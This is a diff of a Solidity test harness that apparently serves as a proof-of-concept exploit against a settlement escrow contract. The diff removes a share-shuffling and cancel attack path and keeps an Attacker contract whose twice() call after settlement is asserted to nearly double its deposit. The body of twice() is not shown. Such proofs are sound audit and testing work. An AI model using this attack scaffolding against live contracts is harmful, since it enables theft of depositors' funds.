@@ -29,20 +29,15 @@ contract Proof {
     Dai private token;
     SettlementEscrow private escrow;
     Attacker private mallory;
-    Attacker private ally;
-    Attacker private second;
 
     function setUp() public {
         vm.warp(START);
         token = new Dai();
         escrow = new SettlementEscrow(token, 100 days);
-        ally = new Attacker(escrow, token);
         mallory = new Attacker(escrow, token);
-        second = new Attacker(escrow, token);
         token.transfer(ANA, 10_000e18);
         token.transfer(BEN, 10_000e18);
-        token.transfer(address(mallory), 1_010e18);
-        token.transfer(address(second), 1_000e18);
+        token.transfer(address(mallory), 1_000e18);
         vm.startPrank(ANA);
         token.approve(address(escrow), type(uint256).max);
         escrow.deposit(3_000e18);
@@ -52,7 +47,6 @@ contract Proof {
         escrow.deposit(2_000e18);
         vm.stopPrank();
         mallory.join(1_000e18);
-        second.join(1_000e18);
         vm.warp(START + 1 days);
     }
 
@@ -81,7 +75,7 @@ contract Proof {
         require(escrow.leave(200e18) == 160e18 && escrow.bonus() == 40e18, "left");
         vm.warp(START + 100 days);
         uint256 supply = escrow.totalSupply();
-        require(supply == 7_300e18, "supply");
+        require(supply == 6_300e18, "supply");
         vm.prank(ANA);
         require(escrow.redeem(2_800e18) == 2_800e18 + 40e18 * uint256(2_800e18) / supply, "settled");
         vm.startPrank(BEN);
@@ -151,30 +145,14 @@ contract Proof {
         vm.stopPrank();
     }
 
-    // Before the settlement nobody has more than four fifths of a stake that was locked.
-    function leavingCosts() public view returns (bool) {
-        if (block.timestamp >= escrow.settlesAt()) return true;
-        return token.balanceOf(address(mallory)) + token.balanceOf(address(ally)) <= 810e18;
-    }
-
     function exploit() public {
-        mallory.move(ally, 1_000e18, 1e18);
+        vm.warp(START + 100 days);
+        mallory.twice();
     }
 
     function test_Exploit() public {
-        require(leavingCosts(), "at first");
         exploit();
-        require(!leavingCosts(), "nothing gained");
-    }
-
-    function exploit2() public {
-        vm.warp(START + 100 days);
-        second.twice();
-    }
-
-    function test_Exploit2() public {
-        exploit2();
-        require(token.balanceOf(address(second)) >= 1_900e18, "nothing gained");
+        require(token.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
     }
 
     function target() public view returns (address) {
@@ -183,10 +161,6 @@ contract Proof {
 
     function attacker() public view returns (address) {
         return address(mallory);
-    }
-
-    function attacker2() public view returns (address) {
-        return address(second);
     }
 
     function dai() public view returns (address) {
@@ -207,19 +181,6 @@ contract Attacker {
     function join(uint256 amount) external {
         token.approve(address(escrow), type(uint256).max);
         escrow.deposit(amount);
-    }
-
-    function move(Attacker to, uint256 shares, uint256 coins) external {
-        require(msg.sender == host, "host");
-        escrow.transfer(address(to), shares);
-        token.transfer(address(to), coins);
-        to.back();
-    }
-
-    function back() external {
-        token.approve(address(escrow), type(uint256).max);
-        escrow.deposit(token.balanceOf(address(this)));
-        escrow.cancel();
     }
 
     function twice() external {
